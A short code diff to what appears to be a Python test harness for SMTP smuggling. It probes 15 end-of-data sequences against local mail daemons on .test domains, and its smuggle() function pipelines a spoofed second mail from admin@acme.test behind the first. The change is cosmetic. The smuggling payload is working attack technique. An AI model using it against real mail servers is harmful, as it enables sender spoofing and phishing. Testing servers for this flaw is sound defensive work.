@@ -1,4 +1,4 @@
-"""SMTP smuggling: 15 ends of data that some server takes for the true one, each with a second mail pipelined behind it."""
+"""SMTP smuggling: 15 ends of data that some server takes for the true one, each with a mail pipelined behind it."""
 
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -48,7 +48,9 @@ def content(name: str) -> bytes:
 
 def smuggle(target: Target, name: str, end: bytes) -> tuple[list[str], set[tuple[str, str]]]:
     """Send a mail, this end of data and a second mail in one go; give the answers behind 354 and the new rows."""
-    second = b"MAIL FROM:<admin@acme.test>\r\nRCPT TO:<sales@acme.test>\r\nDATA\r\n" + content(f"{name}-2") + b"\r\n.\r\n"
+    second = (
+        b"MAIL FROM:<admin@acme.test>\r\nRCPT TO:<sales@acme.test>\r\nDATA\r\n" + content(f"{name}-2") + b"\r\n.\r\n"
+    )
     before = target.messages()
     with calling(target.daemon.port) as caller:
         caller.announce()
